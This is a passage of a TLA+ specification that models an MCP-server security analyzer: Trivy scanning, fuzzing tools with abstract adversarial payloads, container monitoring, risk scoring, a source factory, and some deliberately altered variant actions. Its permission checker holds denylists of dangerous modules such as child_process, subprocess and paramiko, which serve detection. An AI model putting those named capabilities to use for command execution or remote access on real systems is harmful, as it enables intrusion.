          IN  /\ mcp_server' = server
              /\ env' = [env EXCEPT !.discovery = DiscoveryVerdict(server),
                                     !.error = campaign.raised]
              /\ IF campaign.raised # ""
                 THEN /\ HandleException(campaign.raised)
                      /\ UNCHANGED fuzz_results
                 ELSE /\ fuzz_results' = campaign.value
                      /\ pc' = "phase5"
                      /\ UNCHANGED <<result, escaped>>
    /\ UNCHANGED <<cli, todo, pending, workspace, anthropic_api_key, scan_result, behavior_report,
                   report_file, container, monitor, teardowns>>

\* Phase 5: self.behavior_report = monitor.generate_report()
CollectBehavior ==
    /\ pc = "phase5"
    /\ \E obs \in RunObservations :
          /\ behavior_report' = generate_report(monitor, obs)
          /\ monitor' = [monitor EXCEPT !.events = EventsAfterReport(monitor, obs)]
          /\ env' = [env EXCEPT !.probes = ProbesVerdict(obs)]
    /\ log' = Append(log, "BehaviorCollect")
    /\ pc' = "cleanup"
    /\ UNCHANGED <<cli, mcp_server, todo, pending, workspace, anthropic_api_key, scan_result, fuzz_results, report_file,
                   container, result, escaped, teardowns>>

\* container.stop(timeout=10); container.remove(), inside try/except Exception
_cleanup_container(c, outcome) ==
    CASE outcome = "removed" -> [c EXCEPT !.state = "removed"]
      [] outcome = "stop raises" -> c
      [] outcome = "remove raises" -> [c EXCEPT !.state = "stopped"]

\* _cleanup_container without its try/except: a failing stop or remove is
\* caught by the except clause of run_complete_analysis
CleanupContainer_Reraises ==
    /\ pc = "cleanup"
    /\ teardowns' = teardowns + 1
    /\ log' = Append(log, "Teardown")
    /\ \E outcome \in TeardownOutcomes :
          /\ container' = _cleanup_container(container, outcome)
          /\ env' = [env EXCEPT !.teardown = outcome]
          /\ IF outcome = "removed"
             THEN pc' = "phase6" /\ UNCHANGED <<result, escaped>>
             ELSE HandleException(outcome)
    /\ UNCHANGED <<cli, mcp_server, todo, pending, workspace, anthropic_api_key, scan_result, fuzz_results, behavior_report,
                   report_file, monitor>>

\* await self._cleanup_container(container)
CleanupContainer ==
    /\ pc = "cleanup"
    /\ \E outcome \in TeardownOutcomes :
          /\ container' = _cleanup_container(container, outcome)
          /\ env' = [env EXCEPT !.teardown = outcome]
    /\ teardowns' = teardowns + 1
    /\ log' = Append(log, "Teardown")
    /\ pc' = "phase6"
    /\ UNCHANGED <<cli, mcp_server, todo, pending, workspace, anthropic_api_key, scan_result, fuzz_results, behavior_report,
                   report_file, monitor, result, escaped>>

\* the final result generated before the container is cleaned up
GenerateFinalResult_BeforeCleanup ==
    /\ pc \in {"cleanup", "phase6"}
    /\ result' = _generate_final_result(scan_result, fuzz_results, behavior_report)
    /\ log' = Append(log, "Aggregate")
    /\ pc' = "display"
    /\ UNCHANGED <<cli, mcp_server, todo, pending, workspace, anthropic_api_key, scan_result, fuzz_results, behavior_report,
                   report_file, container, monitor, escaped, teardowns, env>>

\* Phase 6: result = self._generate_final_result(...)
GenerateFinalResult ==
    /\ pc = "phase6"
    /\ result' = _generate_final_result(scan_result, fuzz_results, behavior_report)
    /\ log' = Append(log, "Aggregate")
    /\ pc' = "display"
    /\ UNCHANGED <<cli, mcp_server, todo, pending, workspace, anthropic_api_key, scan_result, fuzz_results, behavior_report,
                   report_file, container, monitor, escaped, teardowns, env>>

\* self._display_summary(result); return result
DisplayAndReturn ==
    /\ pc = "display"
    /\ log' = Append(log, "Report")
    /\ Return(result)
    /\ UNCHANGED <<cli, mcp_server, todo, pending, workspace, anthropic_api_key, scan_result, fuzz_results, behavior_report,
                   report_file, container, monitor, teardowns, env>>

\* save_results: the document written to reports/<output>; execution_time is
\* left out
save_results(r) ==
    [status |-> r.status,
     overall_risk_score |-> r.overall_risk_score,
     recommendations |-> r.recommendations,
     scan_summary |-> IF r.scan_result # None
                      THEN [total |-> r.scan_result.total_count,
                            critical |-> r.scan_result.critical_count,
                            high |-> r.scan_result.high_count]
                      ELSE None,
     fuzzing_summary |-> [total_tests |-> Len(r.fuzz_results),
                          leaked_data |-> CountIf(r.fuzz_results, Leaking(r.fuzz_results)),
                          suspicious |-> CountIf(r.fuzz_results, Suspicious(r.fuzz_results))],
     behavior_summary |-> IF r.behavior_report # None THEN r.behavior_report.summary
                          ELSE None]

\* a warning exiting with the failure code
analyze_FailsOnWarning(r) ==
    IF r.overall_risk_score > 70
    THEN [code |-> 1, message |-> "CRITICAL RISK DETECTED - Analysis failed"]
    ELSE IF r.overall_risk_score > 40
    THEN [code |-> 1, message |-> "WARNING - High risk detected"]
    ELSE [code |-> 0, message |-> "Analysis complete"]

\* the end of the analyze command: the message printed and the typer.Exit code
analyze(r) ==
    IF r.overall_risk_score > 70
    THEN [code |-> 1, message |-> "CRITICAL RISK DETECTED - Analysis failed"]
    ELSE IF r.overall_risk_score > 40
    THEN [code |-> 0, message |-> "WARNING - High risk detected"]
    ELSE [code |-> 0, message |-> "Analysis complete"]

\* analyze after asyncio.run returned: orchestrator.save_results(result, output)
\* and raise typer.Exit
AnalyzeExit ==
    /\ pc = "returned"
    /\ cli.state = "running"
    /\ cli' = [state |-> "exited", code |-> analyze(result).code,
               message |-> analyze(result).message, saved |-> save_results(result)]
    /\ pc' = "exited"
    /\ UNCHANGED <<mcp_server, todo, pending, workspace, anthropic_api_key, scan_result, fuzz_results,
                   behavior_report, report_file, container, monitor, result, escaped, log,
                   teardowns, env>>

Next ==
    \/ Call
    \/ StaticAnalysis
    \/ SetupIsolation
    \/ StartMonitoring
    \/ RunInterrogation
    \/ CollectBehavior
    \/ CleanupContainer
    \/ GenerateFinalResult
    \/ DisplayAndReturn
    \/ AnalyzeExit

Spec == Init /\ [][Next]_vars

TypeOK ==
    /\ pc \in {"idle", "phase1", "phase2", "phase3", "phase4", "phase5", "cleanup",
               "phase6", "display", "returned", "raised", "exited", "scan", "scanned",
               "campaign", "fuzzed", "manifest", "checked", "factory", "created", "config", "parsed", "awaiting", "monitor", "monitoring", "reported"}
    /\ teardowns \in 0..1

(***************************************************************************)
(* The aggregator on its own: phase 6 entered with evidence of every shape *)
(***************************************************************************)
\* the ScanResult of a report with c CRITICAL and h HIGH vulnerabilities
ScanWith(c, h) ==
    _parse_trivy_results([Results |-> <<[i \in 1..c |-> "CRITICAL"] \o [i \in 1..h |-> "HIGH"]>>]).value

BaselinePayload == _generate_manual_payloads(NumTool).value[1]

LeakOnly == [transport |-> "ok", status |-> 200, json |-> TRUE, has |-> {"fs"}]
ExecOnly == [transport |-> "ok", status |-> 200, json |-> TRUE, has |-> {"exec"}]

\* a result of each kind the aggregator tells apart: nothing found, leak only,
\* execution only, both
FuzzKinds == {execute_payload(BaselinePayload, r) : r \in {Clean, LeakOnly, ExecOnly, Leaky}}

\* the report of a container in which the first n suspicious processes run
ReportWith(n) ==
    generate_report(start_monitoring("mcp-sandbox"),
                    [Quiet EXCEPT !.ps = [ok |-> TRUE,
                                          found |-> {suspicious_procs[i] : i \in 1..n}]])

PhaseOrder ==
    <<"Scan", "Isolation", "BehaviorStart", "Interrogation", "BehaviorCollect",
      "Teardown", "Aggregate", "Report">>

InitScore ==
    /\ anthropic_api_key = FALSE
    /\ pc = "phase6"
    /\ scan_result \in {None} \cup {ScanWith(c, h) : c \in 0..AggVulns, h \in 0..AggVulns}
    /\ fuzz_results \in SeqsUpTo(FuzzKinds, AggFuzz)
    /\ behavior_report \in {None} \cup {ReportWith(n) : n \in 0..AggAlerts}
    /\ report_file = None
    /\ container = [name |-> "mcp-sandbox", state |-> "removed"]
    /\ monitor = start_monitoring("mcp-sandbox")
    /\ result = None
    /\ escaped = ""
    /\ log = SubSeq(PhaseOrder, 1, 6)
    /\ teardowns = 1
    /\ env = NoEnv
    /\ cli = NoCli
    /\ workspace = None
    /\ mcp_server = None
    /\ todo = <<>>
    /\ pending = <<>>

NextScore ==
    \/ GenerateFinalResult
    \/ DisplayAndReturn

SpecScore == InitScore /\ [][NextScore]_vars

(***************************************************************************)
(* The scanner on its own: the scan command (src/src/cli.py)               *)
(***************************************************************************)
\* reports with up to ScanVulns vulnerabilities of every severity string, in
\* one target or split over two
ScanReports ==
    {[Results |-> <<>>]}
    \cup {[Results |-> <<v>>] : v \in SeqsUpTo(SeverityStrings, ScanVulns)}
    \cup UNION {{[Results |-> <<SubSeq(v, 1, k), SubSeq(v, k + 1, Len(v))>>] :
                    k \in 0..Len(v)} : v \in SeqsUpTo(SeverityStrings, ScanVulns)}

InitScan ==
    /\ anthropic_api_key = FALSE
    /\ pc = "scan"
    /\ scan_result = None
    /\ fuzz_results = <<>>
    /\ behavior_report = None
    /\ report_file = None
    /\ container = None
    /\ monitor = None
    /\ result = None
    /\ escaped = ""
    /\ log = <<>>
    /\ teardowns = 0
    /\ env = NoEnv
    /\ cli = NoCli
    /\ workspace = None
    /\ mcp_server = None
    /\ todo = <<>>
    /\ pending = <<>>

\* scan: result = scanner.scan_with_trivy(); the counts and the permission
\* findings are only printed
ScanCommand ==
    /\ pc = "scan"
    /\ \E run \in TrivyRuns(ScanReports) :
          /\ scan_result' = scan_with_trivy(report_file, run)
          /\ report_file' = FileAfter(report_file, run)
          /\ env' = [env EXCEPT !.scanner = ScannerVerdict(run),
                                 !.written = IF run.installed /\ ~run.timeout
                                             THEN run.writes ELSE None]
    /\ pc' = "scanned"
    /\ UNCHANGED <<cli, mcp_server, todo, pending, workspace, anthropic_api_key, fuzz_results,
                   behavior_report, container, monitor, result, escaped, log, teardowns>>

NextScan == ScanCommand

SpecScan == InitScan /\ [][NextScan]_vars

(***************************************************************************)
(* The interrogator on its own: run_fuzzing_campaign, one await at a time  *)
(***************************************************************************)
\* a property without a type key (read as a string) and a tool with a string
\* and a boolean property
UntypedTool == [name |-> "echo",
                inputSchema |-> [properties |-> <<[name |-> "text", type |-> "<absent>"]>>]]
MixedTool == [name |-> "run",
              inputSchema |-> [properties |-> <<[name |-> "command", type |-> "string"],
                                                [name |-> "force", type |-> "boolean"]>>]]

FuzzSchemas == {StrTool, NumTool, BareTool, NullTool, UntypedTool, MixedTool}

TimedOut == [transport |-> "timeout", status |-> 200, json |-> TRUE, has |-> {}]
Garbled == [transport |-> "ok", status |-> 200, json |-> FALSE, has |-> {}]
Garbled500 == [transport |-> "ok", status |-> 500, json |-> FALSE, has |-> {}]
Error500 == [transport |-> "ok", status |-> 500, json |-> TRUE, has |-> {}]

FuzzResponses == {Down, TimedOut, Garbled, Garbled500, Error500, Clean, LeakOnly, ExecOnly, Leaky}

InitFuzz ==
    /\ anthropic_api_key \in BOOLEAN
    /\ pc = "campaign"
    /\ mcp_server \in [listing : {[tools |-> t] : t \in SeqsUpTo(FuzzSchemas, CampaignTools)},
                        answers : [BOOLEAN -> FuzzResponses]]
    /\ todo = discover_tools(mcp_server)
    /\ pending = <<>>
    /\ scan_result = None
    /\ fuzz_results = <<>>
    /\ behavior_report = None
    /\ report_file = None
    /\ container = None
    /\ monitor = None
    /\ result = None
    /\ escaped = ""
    /\ log = <<>>
    /\ teardowns = 0
    /\ env = NoEnv
    /\ cli = NoCli
    /\ workspace = None

\* payloads = await self.generate_adversarial_payloads(tool); an exception
\* leaves run_fuzzing_campaign
GeneratePayloads ==
    /\ pc = "campaign"
    /\ pending = <<>> /\ todo # <<>>
    /\ LET payloads == generate_adversarial_payloads(Head(todo), anthropic_api_key)
       IN  IF payloads.raised # ""
           THEN /\ pc' = "raised"
                /\ escaped' = payloads.raised
                /\ UNCHANGED <<todo, pending>>
           ELSE /\ pending' = payloads.value
                /\ todo' = Tail(todo)
                /\ UNCHANGED <<pc, escaped>>
    /\ UNCHANGED <<cli, mcp_server, workspace, anthropic_api_key, scan_result, fuzz_results,
                   behavior_report, report_file, container, monitor, result, log,
                   teardowns, env>>

\* execute_payload(payload) is entered and sends its request; log takes the
\* payloads submitted, in order
SubmitPayload ==
    /\ pc = "campaign"
    /\ pending # <<>>
    /\ log' = Append(log, Head(pending))
    /\ pc' = "awaiting"
    /\ UNCHANGED <<cli, mcp_server, todo, pending, workspace, anthropic_api_key,
                   scan_result, fuzz_results, behavior_report, report_file, container,
                   monitor, result, escaped, teardowns, env>>

\* all_results.insert(0, result) in place of append
ExecutePayload_Prepends ==
    /\ pc = "awaiting"
    /\ fuzz_results' = <<execute_payload(Head(pending), Respond(mcp_server, Head(pending)))>>
                        \o fuzz_results
    /\ pending' = Tail(pending)
    /\ pc' = "campaign"
    /\ UNCHANGED <<cli, mcp_server, todo, workspace, anthropic_api_key, scan_result,
                   behavior_report, report_file, container, monitor, result, escaped, log,
                   teardowns, env>>

\* result = await self.execute_payload(payload); all_results.append(result)
ExecutePayload ==
    /\ pc = "awaiting"
    /\ fuzz_results' = Append(fuzz_results,
                              execute_payload(Head(pending),
                                              Respond(mcp_server, Head(pending))))
    /\ pending' = Tail(pending)
    /\ pc' = "campaign"
    /\ UNCHANGED <<cli, mcp_server, todo, workspace, anthropic_api_key, scan_result,
                   behavior_report, report_file, container, monitor, result, escaped, log,
                   teardowns, env>>

\* return all_results (or the empty list when there was no tool)
CampaignReturn ==
    /\ pc = "campaign"
    /\ pending = <<>> /\ todo = <<>>
    /\ pc' = "fuzzed"
    /\ UNCHANGED <<cli, mcp_server, todo, pending, workspace, anthropic_api_key, scan_result,
                   fuzz_results, behavior_report, report_file, container, monitor, result,
                   escaped, log, teardowns, env>>

NextFuzz ==
    \/ GeneratePayloads
    \/ SubmitPayload
    \/ ExecutePayload
    \/ CampaignReturn

SpecFuzz == InitFuzz /\ [][NextFuzz]_vars

(***************************************************************************)
(* The permission check on its own: StaticScanner.check_permissions_manifest *)
(***************************************************************************)
\* A line of a manifest is a sequence of tokens; every denylisted name, every
\* separator the code splits at ("[", ">=", "==") and every blank is one token.
RECURSIVE Before(_, _)
\* line.split(sep)[0]
Before(line, sep) ==
    IF line = <<>> \/ Head(line) = sep THEN <<>>
    ELSE <<Head(line)>> \o Before(Tail(line), sep)

RECURSIVE strip(_)
\* line.strip()
strip(line) ==
    IF line = <<>> THEN <<>>
    ELSE IF Head(line) = " " THEN strip(Tail(line))
    ELSE IF line[Len(line)] = " " THEN strip(SubSeq(line, 1, Len(line) - 1))
    ELSE line

\* str.lower() of a token
lower(token) ==
    CASE token = "Requests" -> "requests"
      [] token = "Boto3" -> "boto3"
      [] token = "Source" -> "source"
      [] OTHER -> token

NoFindings == [suspicious_dependencies |-> <<>>, dangerous_permissions |-> <<>>]

\* dangerous_modules of _check_node_permissions
node_dangerous_modules ==
    [child_process |-> "Can execute system commands",
     fs |-> "Can access filesystem",
     net |-> "Can create network connections",
     dgram |-> "Can send UDP packets",
     crypto |-> "Cryptographic operations (check if needed)"]

\* all_deps: the keys of dependencies, then the new keys of devDependencies
all_deps(data) ==
    data.dependencies \o SelectIn(data.devDependencies,
                                  Range(data.devDependencies) \ Range(data.dependencies))

RECURSIVE NodeFindings(_)
NodeFindings(deps) ==
    IF deps = <<>> THEN <<>>
    ELSE (IF Head(deps) \in DOMAIN node_dangerous_modules
          THEN <<<<Head(deps), ": ", node_dangerous_modules[Head(deps)]>>>>
          ELSE <<>>) \o NodeFindings(Tail(deps))

\* package_json is the parsed document, or Garbage when reading or parsing it
\* raises (the exception is caught and the empty findings are returned)
_check_node_permissions(package_json) ==
    IF package_json = Garbage THEN NoFindings
    ELSE [NoFindings EXCEPT !.dangerous_permissions = NodeFindings(all_deps(package_json))]

\* dangerous_modules of _check_python_permissions
python_dangerous_modules ==
    [subprocess |-> "Can execute system commands",
     os |-> "Can access operating system",
     requests |-> "Can make HTTP requests",
     socket |-> "Can create network connections",
     paramiko |-> "SSH client - can connect remotely"]

\* dep.split("[")[0].split(">=")[0].split("==")[0].strip()
PyprojectName(dep) == strip(Before(Before(Before(dep, "["), ">="), "=="))

RECURSIVE PythonFindings(_)
PythonFindings(deps) ==
    IF deps = <<>> THEN <<>>
    ELSE LET dep_name == PyprojectName(Head(deps))
         IN  (IF Len(dep_name) = 1 /\ dep_name[1] \in DOMAIN python_dangerous_modules
              THEN <<<<dep_name[1], ": ", python_dangerous_modules[dep_name[1]]>>>>
              ELSE <<>>) \o PythonFindings(Tail(deps))

\* pyproject is the project table of the parsed document, or Garbage when
\* tomli is missing or the file does not parse
_check_python_permissions(pyproject) ==
    IF pyproject = Garbage THEN NoFindings
    ELSE [NoFindings EXCEPT !.dangerous_permissions = PythonFindings(pyproject.dependencies)]

\* suspicious of _check_requirements_permissions
suspicious == {"requests", "httpx", "aiohttp", "paramiko", "fabric", "boto3", "google-cloud"}

\* [line.strip() for line in f if line.strip() and not line.startswith("#")]
RECURSIVE RequirementLines(_)
RequirementLines(lines) ==
    IF lines = <<>> THEN <<>>
    ELSE (IF strip(Head(lines)) # <<>> /\ Head(Head(lines)) # "#"
          THEN <<strip(Head(lines))>> ELSE <<>>) \o RequirementLines(Tail(lines))

\* dep.split(">=")[0].split("==")[0].strip()
RequirementName(dep) == strip(Before(Before(dep, ">="), "=="))

RECURSIVE RequirementFindings(_)
\* any(susp in dep_name.lower() for susp in suspicious)
RequirementFindings(deps) ==
    IF deps = <<>> THEN <<>>
    ELSE LET dep_name == RequirementName(Head(deps))
         IN  (IF \E i \in 1..Len(dep_name) : lower(dep_name[i]) \in suspicious
              THEN <<dep_name>> ELSE <<>>) \o RequirementFindings(Tail(deps))

\* requirements holds the lines of the file, or is Garbage when the file
\* cannot be read
_check_requirements_permissions(requirements) ==
    IF requirements = Garbage THEN NoFindings
    ELSE [NoFindings EXCEPT
             !.suspicious_dependencies =
                 RequirementFindings(RequirementLines(requirements.lines))]

\* dict.update: every key of other replaces the key of findings
update(findings, other) ==
    [key \in DOMAIN findings \cup DOMAIN other |->
        IF key \in DOMAIN other THEN other[key] ELSE findings[key]]

\* files is the workspace: each manifest is None when it does not exist
check_permissions_manifest(files) ==
    LET findings == [suspicious_dependencies |-> <<>>, dangerous_permissions |-> <<>>,
                     recommendations |-> <<>>]
        node == IF files.package_json # None
                THEN update(findings, _check_node_permissions(files.package_json))
                ELSE findings
        python == IF files.pyproject # None
                  THEN update(node, _check_python_permissions(files.pyproject))
                  ELSE node
    IN  IF files.requirements # None
        THEN update(python, _check_requirements_permissions(files.requirements))
        ELSE python

NodeNames == {"child_process", "fs", "express"}

\* a dangerous module with extras, one with a spaced lower bound, a harmless one
PyprojectLines == {<<"paramiko", "[", "all", "]">>, <<"os", " ", ">=", "1">>, <<"flask">>}

\* a pinned suspicious package, a capitalised one behind a prefix, a comment, a
\* harmless package
RequirementsTxt ==
    {<<"requests", "==", "2">>, <<"types-", "Requests">>, <<"#", " ", "paramiko">>,
     <<"flask">>}

Distinct(seq) == Cardinality(Range(seq)) = Len(seq)

Workspaces ==
    [package_json : {None, Garbage}
                    \cup [dependencies : {d \in SeqsUpTo(NodeNames, ManifestDeps) : Distinct(d)},
                          devDependencies : {d \in SeqsUpTo(NodeNames, ManifestDeps) :
                                                Distinct(d)}],
     pyproject : {None, Garbage}
                 \cup [dependencies : SeqsUpTo(PyprojectLines, ManifestDeps)],
     requirements : {None, Garbage} \cup [lines : SeqsUpTo(RequirementsTxt, ManifestDeps)]]

InitManifest ==
    /\ anthropic_api_key = FALSE
    /\ pc = "manifest"
    /\ workspace \in Workspaces
    /\ scan_result = None
    /\ fuzz_results = <<>>
    /\ behavior_report = None
    /\ report_file = None
    /\ container = None
    /\ monitor = None
    /\ result = None
    /\ escaped = ""
    /\ log = <<>>
    /\ teardowns = 0
    /\ env = NoEnv
    /\ cli = NoCli
    /\ mcp_server = None
    /\ todo = <<>>
    /\ pending = <<>>

\* permissions = scanner.check_permissions_manifest()
CheckPermissions ==
    /\ pc = "manifest"
    /\ result' = check_permissions_manifest(workspace)
    /\ pc' = "checked"
    /\ UNCHANGED <<cli, mcp_server, todo, pending, workspace, anthropic_api_key,
                   scan_result, fuzz_results, behavior_report, report_file, container,
                   monitor, escaped, log, teardowns, env>>

NextManifest == CheckPermissions

SpecManifest == InitManifest /\ [][NextManifest]_vars

(***************************************************************************)
(* The source factory (src/src/installer/source_factory.py) and the source *)
(* classes it constructs                                                   *)
(***************************************************************************)
\* A reference is a sequence of tokens: a word (a run of letters, digits, "_"
\* and "-") or one punctuation character.
Words == {"srv", "mcp", "owner", "repo", "pkg", "1", "npm", "pypi", "https", "http",
          "github", "com", "scope", "C"}

\* the words of one character
Letters == {"1", "C"}

StartsWith(s, prefix) ==
    Len(s) >= Len(prefix) /\ SubSeq(s, 1, Len(prefix)) = prefix

\* sub in s, for a sub of one or two tokens
Contains(s, sub) ==
    \E i \in 1..Len(s) : i + Len(sub) - 1 <= Len(s) /\ SubSeq(s, i, i + Len(sub) - 1) = sub

\* positions of the token sep in s
Positions(s, sep) == {i \in 1..Len(s) : s[i] = sep}

Last(S) == CHOOSE i \in S : \A j \in S : j <= i

Raise(error) == [raised |-> error, value |-> None]
Value(v) == [raised |-> "", value |-> v]

\* the dataclass MCPConfig: a keyword that is not a field is a TypeError
MCPConfig(fields) ==
    LET declared == {"name", "source_type", "source_reference", "version", "ref",
                     "workspace_path"}
    IN  IF ~(DOMAIN fields \subseteq declared) THEN Raise("TypeError")
        ELSE Value([f \in declared |-> IF f \in DOMAIN fields THEN fields[f] ELSE None])

\* Path(path).name
PathName(path) ==
    IF Positions(path, "/") = {} THEN path
    ELSE SubSeq(path, Last(Positions(path, "/")) + 1, Len(path))

\* LocalSource.__init__(self, path, command=None, args=None)
LocalSource(path, keywords) ==
    IF ~(DOMAIN keywords \subseteq {"command", "args"}) THEN Raise("TypeError")
    ELSE LET config == MCPConfig([name |-> PathName(path), source_type |-> "local",
                                  source_reference |-> path,
                                  workspace_path |-> [resolved |-> path],
                                  command |-> keywords.command, args |-> keywords.args])
         IN  IF config.raised # "" THEN config
             ELSE Value([class |-> "LocalSource", config |-> config.value])

\* GitHubSource._parse_reference: the full URL pattern, then owner/repo
_parse_reference(reference) ==
    LET url == \E scheme \in {"https", "http"} :
                   StartsWith(reference, <<scheme, ":", "/", "/", "github", ".", "com", "/">>)
        rest == IF url THEN SubSeq(reference, 9, Len(reference)) ELSE reference
        bare == IF rest # <<>> /\ url /\ rest[Len(rest)] = "/"
                THEN SubSeq(rest, 1, Len(rest) - 1) ELSE rest
        slashes == Positions(bare, "/")
    IN  IF Cardinality(slashes) = 1 /\ 1 \notin slashes /\ Len(bare) \notin slashes
        THEN LET at == Last(slashes)
             IN  Value(<<SubSeq(bare, 1, at - 1), SubSeq(bare, at + 1, Len(bare))>>)
        ELSE Raise("ValueError")

\* GitHubSource.__init__(self, reference, ref=None, version=None)
GitHubSource(reference, keywords) ==
    IF ~(DOMAIN keywords \subseteq {"ref", "version"}) THEN Raise("TypeError")
    ELSE LET parsed == _parse_reference(reference)
         IN  IF parsed.raised # "" THEN parsed
             ELSE LET config == MCPConfig([name |-> parsed.value[2], source_type |-> "github",
                                           source_reference |-> reference,
                                           version |-> keywords.version,
                                           ref |-> keywords.ref])
                  IN  Value([class |-> "GitHubSource", config |-> config.value])

\* NpmSource.__init__(self, package_name, version=None)
NpmSource(package_name, keywords) ==
    IF ~(DOMAIN keywords \subseteq {"version"}) THEN Raise("TypeError")
    ELSE LET ats == Positions(package_name, "@")
             split == ats # {} /\ 1 \notin ats
             pkg_name == IF split THEN SubSeq(package_name, 1, Last(ats) - 1)
                         ELSE package_name
             pkg_version == IF keywords.version # None THEN keywords.version
                            ELSE IF split
                                 THEN [text |-> SubSeq(package_name, Last(ats) + 1,
                                                       Len(package_name))]
                                 ELSE [text |-> <<"latest">>]
             config == MCPConfig([name |-> pkg_name, source_type |-> "npm",
                                  source_reference |-> package_name,
                                  version |-> pkg_version])
         IN  Value([class |-> "NpmSource", config |-> config.value])

\* PyPiSource.__init__(self, package_name, version=None)
PyPiSource(package_name, keywords) ==
    IF ~(DOMAIN keywords \subseteq {"version"}) THEN Raise("TypeError")
    ELSE LET config == MCPConfig([name |-> package_name, source_type |-> "pypi",
                                  source_reference |-> package_name,
                                  version |-> keywords.version])
         IN  Value([class |-> "PyPiSource", config |-> config.value])

\* the constructor call the factory makes: class, positional argument, keywords
Construct(call) ==
    CASE call.class = "LocalSource" -> LocalSource(call.reference, call.keywords)
      [] call.class = "GitHubSource" -> GitHubSource(call.reference, call.keywords)
      [] call.class = "NpmSource" -> NpmSource(call.reference, call.keywords)
      [] call.class = "PyPiSource" -> PyPiSource(call.reference, call.keywords)

\* version, ref, command and args are left at their default None by the caller
LocalCall(reference) ==
    [class |-> "LocalSource", reference |-> reference,
     keywords |-> [command |-> None, args |-> None]]
GitHubCall(reference) ==
    [class |-> "GitHubSource", reference |-> reference,
     keywords |-> [ref |-> None, version |-> None, command |-> None, args |-> None]]
NpmCall(reference) ==
    [class |-> "NpmSource", reference |-> reference,
     keywords |-> [version |-> None, command |-> None, args |-> None]]
PyPiCall(reference) ==
    [class |-> "PyPiSource", reference |-> reference,
     keywords |-> [version |-> None, command |-> None, args |-> None]]
NoCall == [class |-> "", reference |-> <<>>, keywords |-> <<>>]

\* source_type.lower()
LowerType(source_type) ==
    CASE source_type = "GitHub" -> "github"
      [] OTHER -> source_type

\* the constructor _create_by_type calls; none for an unknown type
_create_by_type(source_type, reference) ==
    LET t == LowerType(source_type)
    IN  CASE t = "local" -> LocalCall(reference)
          [] t = "github" -> GitHubCall(reference)
          [] t = "npm" -> NpmCall(reference)
          [] t = "pypi" -> PyPiCall(reference)
          [] OTHER -> NoCall

NPM_PREFIX_PATTERN(reference) == StartsWith(reference, <<"npm", ":">>)
PYPI_PREFIX_PATTERN(reference) == StartsWith(reference, <<"pypi", ":">>)
GITHUB_URL_PATTERN(reference) ==
    \E scheme \in {"https", "http"} :
        StartsWith(reference, <<scheme, ":", "/", "/", "github", ".", "com", "/">>)
GITHUB_SHORT_PATTERN(reference) ==
    Len(reference) = 3 /\ reference[1] \in Words /\ reference[2] = "/" /\ reference[3] \in Words

\* exists is Path(reference).exists()
_is_local_path(reference, exists) ==
    \/ StartsWith(reference, <<"/">>)
    \/ StartsWith(reference, <<".", "/">>)
    \/ StartsWith(reference, <<".", ".", "/">>)
    \/ exists
    \/ Len(reference) >= 3 /\ reference[1] \in Letters /\ reference[2] = ":"

\* "@" in reference and not reference.startswith("@")
NpmVersionShape(reference) ==
    Positions(reference, "@") # {} /\ ~StartsWith(reference, <<"@">>)

\* any(op in reference for op in ["==", ">=", "<=", ">", "<", "!="])
PyPiVersionShape(reference) ==
    \/ Contains(reference, <<"=", "=">>)
    \/ Contains(reference, <<">", "=">>)
    \/ Contains(reference, <<"<", "=">>)
    \/ Contains(reference, <<">">>)
    \/ Contains(reference, <<"<">>)
    \/ Contains(reference, <<"!", "=">>)

\* the version shapes tried before the local path
_auto_detect_source_VersionFirst(reference, exists) ==
    IF NPM_PREFIX_PATTERN(reference) THEN NpmCall(SubSeq(reference, 3, Len(reference)))
    ELSE IF PYPI_PREFIX_PATTERN(reference)
    THEN PyPiCall(SubSeq(reference, 3, Len(reference)))
    ELSE IF GITHUB_URL_PATTERN(reference) THEN GitHubCall(reference)
    ELSE IF GITHUB_SHORT_PATTERN(reference) /\ Positions(reference, "/") # {} /\ ~exists
    THEN GitHubCall(reference)
    ELSE IF NpmVersionShape(reference) THEN NpmCall(reference)
    ELSE IF PyPiVersionShape(reference) THEN PyPiCall(reference)
    ELSE LocalCall(reference)

\* the constructor _auto_detect_source calls
_auto_detect_source(reference, exists) ==
    IF NPM_PREFIX_PATTERN(reference) THEN NpmCall(SubSeq(reference, 3, Len(reference)))
    ELSE IF PYPI_PREFIX_PATTERN(reference)
    THEN PyPiCall(SubSeq(reference, 3, Len(reference)))
    ELSE IF GITHUB_URL_PATTERN(reference) THEN GitHubCall(reference)
    ELSE IF GITHUB_SHORT_PATTERN(reference) /\ Positions(reference, "/") # {} /\ ~exists
    THEN GitHubCall(reference)
    ELSE IF _is_local_path(reference, exists) THEN LocalCall(reference)
    ELSE IF NpmVersionShape(reference) THEN NpmCall(reference)
    ELSE IF PyPiVersionShape(reference) THEN PyPiCall(reference)
    ELSE LocalCall(reference)

\* source_type is "" when the caller leaves it out (None and "" are both falsy)
SelectedCall(reference, source_type, exists) ==
    IF source_type # "" THEN _create_by_type(source_type, reference)
    ELSE _auto_detect_source(reference, exists)

create_source(reference, source_type, exists) ==
    LET call == SelectedCall(reference, source_type, exists)
    IN  IF call = NoCall THEN Raise("ValueError") ELSE Construct(call)

References ==
    {<<"/", "srv", "/", "mcp">>,
     <<".", "/", "mcp">>,
     <<".", ".", "/", "mcp">>,
     <<"C", ":", "/", "mcp">>,
     <<"https", ":", "/", "/", "github", ".", "com", "/", "owner", "/", "repo">>,
     <<"owner", "/", "repo">>,
     <<"npm", ":", "pkg">>,
     <<"npm", ":", "owner", "/", "repo">>,
     <<"pkg", "@", "1">>,
     <<"@", "scope", "/", "pkg">>,
     <<"pypi", ":", "pkg">>,
     <<"pkg", "=", "=", "1">>,
     <<"pkg", ">", "=", "1">>,
     <<"pkg">>}

SourceTypes == {"", "local", "github", "GitHub", "npm", "pypi", "docker"}

InitFactory ==
    /\ anthropic_api_key = FALSE
    /\ pc = "factory"
    /\ workspace \in [reference : References, source_type : SourceTypes, exists : BOOLEAN]
    /\ scan_result = None
    /\ fuzz_results = <<>>
    /\ behavior_report = None
    /\ report_file = None
    /\ container = None
    /\ monitor = None
    /\ result = None
    /\ escaped = ""
    /\ log = <<>>
    /\ teardowns = 0
    /\ env = NoEnv
    /\ cli = NoCli
    /\ mcp_server = None
    /\ todo = <<>>
    /\ pending = <<>>

\* source = MCPSourceFactory.create_source(reference, source_type); log takes
\* the class whose constructor was called
CreateSource ==
    /\ pc = "factory"
    /\ LET call == SelectedCall(workspace.reference, workspace.source_type,
                                workspace.exists)
           source == create_source(workspace.reference, workspace.source_type,
                                   workspace.exists)
       IN  /\ log' = IF call = NoCall THEN <<>> ELSE <<call.class>>
           /\ result' = source.value
